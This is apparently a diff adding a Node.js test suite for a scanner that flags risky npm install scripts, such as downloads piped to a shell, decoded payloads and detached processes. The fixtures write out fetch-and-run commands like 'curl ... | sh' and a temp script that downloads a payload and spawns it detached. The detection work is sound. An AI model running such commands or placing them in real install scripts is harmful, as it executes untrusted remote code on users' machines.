@@ -0,0 +1,148 @@
+'use strict';
+
+const { describe, it, beforeEach, afterEach } = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const path = require('path');
+const os = require('os');
+
+const { analyzeScript, highestConfidence, tokenizeShell } = require('../lib/scripts');
+
+const behaviorsOf = (script, options) => analyzeScript(script, options).map(b => `${b.behavior}:${b.confidence}`);
+
+describe('scripts', () => {
+  describe('tokenizeShell', () => {
+    it('should split commands on operators', () => {
+      const commands = tokenizeShell('npm run build && curl -s https://x.sh | sh; echo done &');
+
+      assert.deepStrictEqual(commands.map(c => c.argv), [
+        ['npm', 'run', 'build'],
+        ['curl', '-s', 'https://x.sh'],
+        ['sh'],
+        ['echo', 'done'],
+      ]);
+      assert.deepStrictEqual(commands.map(c => c.separator), ['&&', '|', ';', '&']);
+    });
+
+    it('should keep quoted operators in words', () => {
+      const commands = tokenizeShell('echo "a | b" \'c && d\' e\\;f');
+
+      assert.strictEqual(commands.length, 1);
+      assert.deepStrictEqual(commands[0].argv, ['echo', 'a | b', 'c && d', 'e;f']);
+    });
+
+    it('should drop redirections and comments', () => {
+      const commands = tokenizeShell('node x.js > /dev/null 2>&1 # run quietly');
+
+      assert.deepStrictEqual(commands[0].argv, ['node', 'x.js']);
+    });
+
+    it('should collect command substitutions', () => {
+      const commands = tokenizeShell('bash -c "$(curl -fsSL https://x.sh)"');
+
+      assert.deepStrictEqual(commands[0].substitutions, ['curl -fsSL https://x.sh']);
+    });
+  });
+
+  describe('analyzeScript', () => {
+    let tempDir;
+
+    beforeEach(() => {
+      tempDir = fs.mkdtempSync(path.join(os.tmpdir(), 'worm-buster-test-'));
+    });
+
+    afterEach(() => {
+      fs.rmSync(tempDir, { recursive: true, force: true });
+    });
+
+    it('should not flag ordinary build and hook scripts', () => {
+      for (const script of ['rollup --bundle', 'husky install', 'bun run build', 'node-gyp rebuild', 'tsc -p . && node scripts/copy.js']) {
+        assert.deepStrictEqual(analyzeScript(script, { baseDir: tempDir }), [], script);
+      }
+    });
+
+    it('should report downloads piped to a shell', () => {
+      const behaviors = behaviorsOf('curl -fsSL https://bun.sh/install | bash', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors, ['download:high', 'pipe-to-shell:high']);
+    });
+
+    it('should report downloads executed through a substitution', () => {
+      const behaviors = behaviorsOf('bash -c "$(wget -qO- https://x.sh)"', { baseDir: tempDir });
+
+      assert.ok(behaviors.includes('download:high'));
+      assert.ok(behaviors.includes('pipe-to-shell:high'));
+    });
+
+    it('should report a substituted download once', () => {
+      const behaviors = analyzeScript('bash -c "$(curl -fsSL https://x)"', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors.map(b => `${b.behavior} ${b.evidence}`), [
+        'download curl -fsSL https://x',
+        'pipe-to-shell bash -c "$(curl -fsSL https://x)"',
+      ]);
+    });
+
+    it('should report decoded content piped to a shell with medium confidence', () => {
+      const behaviors = behaviorsOf('echo Y3VybA== | base64 -d | sh', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors, ['pipe-to-shell:medium']);
+    });
+
+    it('should report detached runtimes', () => {
+      assert.deepStrictEqual(behaviorsOf('nohup bun bun_environment.js', { baseDir: tempDir, payloads: [] }), ['detached-process:high']);
+      assert.deepStrictEqual(behaviorsOf('node server.js &', { baseDir: tempDir }), ['detached-process:high']);
+    });
+
+    it('should report scripts run from node_modules', () => {
+      const behaviors = behaviorsOf('node node_modules/helper/install.js', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors, ['node-modules-script:medium']);
+    });
+
+    it('should report known payload references', () => {
+      const behaviors = behaviorsOf('bun run setup_bun.js', { baseDir: tempDir, payloads: ['setup_bun.js'] });
+
+      assert.deepStrictEqual(behaviors, ['payload-reference:high']);
+    });
+
+    it('should analyze inline code', () => {
+      const behaviors = behaviorsOf('node -e "require(\'child_process\').execSync(\'curl https://x.sh | sh\')"', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors, ['download:high', 'pipe-to-shell:high']);
+    });
+
+    it('should analyze local JavaScript files the script runs', () => {
+      fs.writeFileSync(path.join(tempDir, 'install.js'), [
+        'const { spawn } = require(\'child_process\');',
+        'https.get(\'https://example.com/payload\', res => res.pipe(out));',
+        'spawn(process.execPath, [\'payload.js\'], { detached: true, stdio: \'ignore\' }).unref();',
+      ].join('\n'));
+
+      const behaviors = analyzeScript('node ./install.js', { baseDir: tempDir, payloads: [] });
+
+      assert.deepStrictEqual(behaviors.map(b => `${b.behavior}:${b.confidence}`), ['download:high', 'detached-process:high']);
+      assert.strictEqual(behaviors[0].file, path.join(tempDir, 'install.js'));
+    });
+
+    it('should analyze local shell scripts the script runs', () => {
+      fs.mkdirSync(path.join(tempDir, 'scripts'));
+      fs.writeFileSync(path.join(tempDir, 'scripts', 'setup.sh'), '#!/bin/sh\nset -e\nwget -O- https://x.sh | sh\n');
+
+      const behaviors = behaviorsOf('sh scripts/setup.sh', { baseDir: tempDir });
+
+      assert.deepStrictEqual(behaviors, ['download:high', 'pipe-to-shell:high']);
+    });
+
+    it('should ignore missing script files', () => {
+      assert.deepStrictEqual(analyzeScript('node missing.js', { baseDir: tempDir }), []);
+    });
+  });
+
+  describe('highestConfidence', () => {
+    it('should return the highest confidence', () => {
+      assert.strictEqual(highestConfidence([{ confidence: 'low' }, { confidence: 'high' }, { confidence: 'medium' }]), 'high');
+      assert.strictEqual(highestConfidence([]), null);
+    });
+  });
+});